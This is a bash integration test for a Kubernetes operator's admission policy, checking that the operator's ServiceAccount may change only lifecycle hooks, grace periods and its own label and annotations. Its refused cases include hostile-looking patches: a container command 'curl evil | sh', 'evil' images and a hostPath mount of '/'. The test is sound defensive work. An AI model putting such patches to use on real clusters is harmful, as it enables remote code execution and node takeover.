#!/usr/bin/env bash
# The chart's ValidatingAdmissionPolicy (templates/admissionpolicy.yaml):
# the operator's ServiceAccount may change nothing on a Deployment,
# StatefulSet or DaemonSet but its hooks, the grace period, the hooked-pods
# label and its lifecycle-operator.io/ annotations. Installs only the chart's
# ServiceAccount, RBAC and policy (no operator, no image) under a release of
# its own, then writes as that ServiceAccount with `kubectl --as`: what the
# operator writes is allowed, anything else refused; other users unaffected.
# Prints `admission: N passed, N failed` and fails on any failure.
# shellcheck source=hack/lib.sh
source "$(dirname "$0")/../hack/lib.sh"
set +e # checks count failures; the script goes on
cd "$REPO_ROOT" || exit 1

release=lco-vap
ns=lco-vap-system
app_ns=lco-vap-apps
chart=charts/lifecycle-operator
fullname=$release-lifecycle-operator
sa=system:serviceaccount:$ns:$fullname
out=target/admission
mkdir -p "$out"
# shellcheck disable=SC2034 # read by check (hack/lib.sh)
CHECK_LOG=$out/last.log

cleanup() {
  kubectl delete -f "$out/chart.yaml" --ignore-not-found --wait=false >/dev/null 2>&1
  kubectl delete ns "$app_ns" "$ns" --ignore-not-found --timeout=120s >/dev/null 2>&1
}
trap cleanup EXIT
cleanup

helm template "$release" "$chart" -n "$ns" \
  -s templates/serviceaccount.yaml -s templates/rbac.yaml -s templates/admissionpolicy.yaml >"$out/chart.yaml"
kubectl create ns "$ns" >/dev/null
kubectl create ns "$app_ns" >/dev/null
kubectl label ns "$app_ns" lifecycle-operator.io/test=true >/dev/null
check "the chart's ServiceAccount, RBAC and admission policy apply" kubectl apply -f "$out/chart.yaml"
policy_ready() {
  kubectl get validatingadmissionpolicy "$fullname-workload-slots" -o json |
    jq -e '.status.observedGeneration == 1 and ((.status.typeChecking.expressionWarnings // []) | length == 0)'
}
check "the policy type-checks without warnings" until_ok 30 policy_ready

# Workloads as a user made them: no pods (replicas 0; the DaemonSet's node
# selector matches no node), a sidecar in the Deployment.
kubectl apply -n "$app_ns" -f - >/dev/null <<'EOF'
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, labels: {app: web}, annotations: {team: a}}
spec:
  replicas: 0
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}, annotations: {note: x}}
    spec:
      initContainers: [{name: proxy, image: busybox, restartPolicy: Always, command: [sleep, "3600"]}]
      containers: [{name: app, image: busybox, command: [sleep, "3600"], env: [{name: A, value: "1"}]}]
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: db}
spec:
  replicas: 0
  serviceName: db
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec:
      containers: [{name: db, image: busybox, command: [sleep, "3600"]}]
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: edge}
spec:
  selector: {matchLabels: {app: edge}}
  template:
    metadata: {labels: {app: edge}}
    spec:
      nodeSelector: {lifecycle-operator.io/no-such-node: "true"}
      containers: [{name: edge, image: busybox, command: [sleep, "3600"]}]
EOF

# kubectl reads an object before it patches it; the operator never does
# (its ClusterRole has no get). For the test only, the ServiceAccount may get
# the workloads of the test namespace.
kubectl -n "$app_ns" create role kubectl-reads --verb=get --resource=deployments.apps,statefulsets.apps,daemonsets.apps >/dev/null
kubectl -n "$app_ns" create rolebinding kubectl-reads --role=kubectl-reads --serviceaccount="$ns:$fullname" >/dev/null

as_sa() { kubectl --as="$sa" -n "$app_ns" "$@"; }
jpatch() { as_sa patch "$1" --type=json -p "$2"; }
mpatch() { as_sa patch "$1" --type=merge -p "$2"; }
# refused WHAT: the request must fail, and because of this policy.
refused() {
  local res
  res=$("$@" 2>&1) && fail "allowed: $res"
  grep -q "$fullname-workload-slots" <<<"$res" || fail "refused, but not by the policy: $res"
}

# --- What the operator writes: allowed ----------------------------------
# Its own server-side apply, as src/apply/patch.rs builds it (field manager, the
# slots, the label, the ledger annotation).
operator_apply() {
  as_sa apply --server-side --force-conflicts --field-manager=lifecycle-operator/p -f - <<'EOF'
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  annotations: {lifecycle-operator.io/p: '{"policy":"p"}'}
spec:
  template:
    metadata: {labels: {lifecycle-operator.io/hooked: "true"}}
    spec:
      terminationGracePeriodSeconds: 45
      initContainers: [{name: proxy, lifecycle: {preStop: {sleep: {seconds: 1}}}}]
      containers: [{name: app, lifecycle: {preStop: {exec: {command: [/bin/sh, -c, "sleep 1"]}}, postStart: {sleep: {seconds: 1}}}}]
EOF
}
check "allowed: the operator's apply (hooks, sidecar hook, grace, label, ledger)" operator_apply
check "allowed: a hook changed by JSON patch" jpatch deploy/web '[{"op":"replace","path":"/spec/template/spec/containers/0/lifecycle/preStop","value":{"sleep":{"seconds":2}}}]'
check "allowed: a StatefulSet's hook" jpatch sts/db '[{"op":"add","path":"/spec/template/spec/containers/0/lifecycle","value":{"preStop":{"sleep":{"seconds":1}}}}]'
check "allowed: a DaemonSet's hook and grace period" mpatch ds/edge '{"spec":{"template":{"spec":{"terminationGracePeriodSeconds":40}}}}'
# Its release: the restoring JSON patch takes everything back.
release_patch='[{"op":"remove","path":"/spec/template/spec/containers/0/lifecycle"},
  {"op":"remove","path":"/spec/template/spec/initContainers/0/lifecycle"},
  {"op":"remove","path":"/spec/template/spec/terminationGracePeriodSeconds"},
  {"op":"remove","path":"/spec/template/metadata/labels/lifecycle-operator.io~1hooked"},
  {"op":"remove","path":"/metadata/annotations/lifecycle-operator.io~1p"}]'
check "allowed: the operator's release (hooks, grace, label, ledger removed)" jpatch deploy/web "$release_patch"

# --- Anything else: refused ---------------------------------------------
check "refused: an image" refused jpatch deploy/web '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil"}]'
check "refused: a command" refused jpatch deploy/web '[{"op":"replace","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil | sh"]}]'
check "refused: an environment variable" refused jpatch deploy/web '[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"B","value":"2"}}]'
check "refused: a sidecar's image" refused jpatch deploy/web '[{"op":"replace","path":"/spec/template/spec/initContainers/0/image","value":"evil"}]'
check "refused: a new container" refused jpatch deploy/web '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"x","image":"evil"}}]'
check "refused: a new init container" refused jpatch deploy/web '[{"op":"add","path":"/spec/template/spec/initContainers/-","value":{"name":"x","image":"evil"}}]'
check "refused: replicas" refused mpatch deploy/web '{"spec":{"replicas":3}}'
check "refused: hostNetwork" refused mpatch deploy/web '{"spec":{"template":{"spec":{"hostNetwork":true}}}}'
check "refused: the ServiceAccount of the pods" refused mpatch deploy/web '{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}'
check "refused: a volume" refused mpatch deploy/web '{"spec":{"template":{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}'
check "refused: a pod template label other than the hooked one" refused mpatch deploy/web '{"spec":{"template":{"metadata":{"labels":{"x":"y"}}}}}'
check "refused: a pod template annotation" refused mpatch deploy/web '{"spec":{"template":{"metadata":{"annotations":{"note":"changed"}}}}}'
check "refused: the workload's labels" refused mpatch deploy/web '{"metadata":{"labels":{"app":"other"}}}'
check "refused: an annotation outside lifecycle-operator.io/" refused mpatch deploy/web '{"metadata":{"annotations":{"team":"b"}}}'
check "refused: a StatefulSet's image" refused jpatch sts/db '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil"}]'
check "refused: a DaemonSet's image" refused jpatch ds/edge '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil"}]'
check "refused: a DaemonSet's node selector" refused mpatch ds/edge '{"spec":{"template":{"spec":{"nodeSelector":null}}}}'
image_is() { test "$(kubectl -n "$app_ns" get deploy web -o jsonpath='{.spec.template.spec.containers[0].image}')" = "$1"; }
check "the image is still the user's" image_is busybox

# --- Nobody else is affected ---------------------------------------------
check "another user may still change the image" kubectl -n "$app_ns" set image deploy/web app=busybox:1
check "... and it changed" image_is busybox:1

report admission
